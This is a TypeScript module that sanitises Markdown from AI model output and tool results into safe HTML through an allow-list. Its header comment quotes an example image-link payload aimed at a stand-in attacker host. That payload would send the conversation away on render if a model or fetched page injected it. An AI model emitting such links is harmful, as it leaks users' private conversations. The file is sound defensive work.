/**
 * Markdown to safe HTML for model output, tool results, imported conversations and the help guides.
 * marked renders (GitHub-flavoured); DOMPurify then keeps only an allow-list: the elements Markdown itself produces,
 * each with the few attributes it needs (`a[href]`, `code[class=language-*]`, `ol[start]`, `th/td[align]`).
 * An allow-list, not a deny-list, because the HTML spec keeps growing attributes that fetch (`background`, `poster`,
 * `ping`, `srcset`, ...) or that let a model draw the app's own chrome (`<dialog open>`, `popover`, `role=alert`,
 * `class`, `id`): whatever is not listed here is dropped, text kept.
 * Images are never loaded: a model or a fetched page could write `![](https://attacker/?q=<conversation>)` to send
 * the conversation away the moment it renders, so a Markdown image becomes a link the person may choose to open.
 * Raw HTML in model text is shown as text (escaped), never parsed: `Vec<String>` reads `Vec<String>` and
 * `<dialog open>` reads as the words the model wrote (issue 16 item 4); the allow-list stays the second line of defence.
 * Streaming replies are rendered block by block (markdown-blocks.ts) through {@link lexModelMarkdown} and
 * {@link renderModelTokens}, the same renderer and sanitiser as {@link renderMarkdown}.
 */
import createDOMPurify, { type DOMPurify as Purifier } from 'dompurify'
import { Lexer, Marked, type Token, type TokensList } from 'marked'

function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, c => `&#${c.charCodeAt(0)};`)
}

/** For the app's own guides: images render (the help panel points them at bundled files). */
const trustedMarked = new Marked({ gfm: true, breaks: false, async: false })

const marked = new Marked({
  gfm: true,
  breaks: false,
  async: false,
  renderer: {
    image({ href, text }) {
      return `<a href="${escapeHtml(href)}">[image: ${escapeHtml(text || 'untitled')}]</a>`
    },
    // Raw HTML (a block like `<div>` or an inline tag like `<String>`) is the model's text, shown as written.
    html({ text, block }) {
      return block ? `<p>${escapeHtml(text.replace(/\n+$/, ''))}</p>\n` : escapeHtml(text)
    },
  },
})

const NO_ATTRIBUTES: readonly string[] = []

/**
 * Every element untrusted text may keep, with the attributes each may keep. Nothing here fetches (an `a[href]` is
 * only followed when clicked, in a new tab), positions itself, or looks like the app's dialogs, forms or notices.
 */
export const MODEL_OUTPUT_ALLOWED: Readonly<Record<string, readonly string[]>> = {
  a: ['href', 'title'],
  code: ['class'],
  ol: ['start'],
  th: ['align'],
  td: ['align'],
  ...Object.fromEntries([
    'p', 'br', 'hr', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'blockquote', 'pre', 'ul', 'li',
    'strong', 'b', 'em', 'i', 'del', 's', 'sub', 'sup', 'kbd',
    'table', 'thead', 'tbody', 'tfoot', 'tr', 'details', 'summary',
  ].map(tag => [tag, NO_ATTRIBUTES])),
}

/** The app's own guides add images (bundled files, rewritten by the help panel). */
const GUIDE_ALLOWED: Readonly<Record<string, readonly string[]>> = { ...MODEL_OUTPUT_ALLOWED, img: ['src', 'alt', 'title'] }

/** marked writes the fence's language as `class="language-xyz"`; no other class can borrow the app's styles. */
const CODE_CLASS = /^language-[\w+#.-]{1,40}$/

/** One DOMPurify instance per allow-list, so their hooks never meet (the default instance stays untouched). */
function makePurifier(allowed: Readonly<Record<string, readonly string[]>>): { purifier: Purifier, config: Record<string, unknown> } {
  const purifier = createDOMPurify(window)
  purifier.addHook('uponSanitizeAttribute', (node, data) => {
    const tag = node.nodeName.toLowerCase()
    const isListed = allowed[tag]?.includes(data.attrName) ?? false
    if (!isListed || (tag === 'code' && data.attrName === 'class' && !CODE_CLASS.test(data.attrValue)))
      data.keepAttr = false
  })
  // Links open outside the app and never leak the page through `window.opener`.
  purifier.addHook('afterSanitizeAttributes', (node) => {
    if (node.tagName === 'A' && node.hasAttribute('href')) {
      node.setAttribute('target', '_blank')
      node.setAttribute('rel', 'noopener noreferrer nofollow')
    }
  })
  const config = {
    ALLOWED_TAGS: Object.keys(allowed),
    ALLOWED_ATTR: [...new Set(Object.values(allowed).flat())],
    ALLOW_DATA_ATTR: false,
    ALLOW_ARIA_ATTR: false,
    ALLOW_UNKNOWN_PROTOCOLS: false,
    // `target` and `rel` are written by the hook above, after the allow-list has been applied.
  }
  return { purifier, config }
}

let purifiers: { model: ReturnType<typeof makePurifier>, guide: ReturnType<typeof makePurifier> } | undefined

function purifierFor(isOwnGuide: boolean): ReturnType<typeof makePurifier> {
  purifiers ??= { model: makePurifier(MODEL_OUTPUT_ALLOWED), guide: makePurifier(GUIDE_ALLOWED) }
  return isOwnGuide ? purifiers.guide : purifiers.model
}

/**
 * Renders Markdown to sanitised HTML. Safe to bind with `v-html`. Needs a DOM (a browser, or jsdom in tests).
 * `isOwnGuide` is for the app's bundled docs only: their images are kept (still sanitised); never for model output.
 */
export function renderMarkdown(source: string, opts: { isOwnGuide?: boolean } = {}): string {
  const { purifier, config } = purifierFor(opts.isOwnGuide ?? false)
  const html = (opts.isOwnGuide ? trustedMarked : marked).parse(source) as string
  return purifier.sanitize(html, config)
}

/** Link reference definitions (`[id]: url`) found so far, by normalised label, as marked's lexer keeps them. */
export type LinkDefinitions = TokensList['links']

/**
 * Splits model Markdown into its top-level block tokens (paragraph, list, code, table, space...) with the model
 * renderer's options. `links` holds reference definitions met earlier in the same reply (not changed), so a tail lexed
 * on its own still resolves `[text][id]`. Each token's `raw` is its exact source text once `\r\n` is `\n`.
 */
export function lexModelMarkdown(source: string, links: LinkDefinitions): Token[] {
  const lexer = new Lexer(marked.defaults)
  Object.assign(lexer.tokens.links, links)
  return lexer.lex(source)
}

/** Renders model block tokens (from {@link lexModelMarkdown}) to sanitised HTML, as {@link renderMarkdown} would. */
export function renderModelTokens(tokens: Token[]): string {
  const { purifier, config } = purifierFor(false)
  return purifier.sanitize(marked.parser(tokens), config)
}
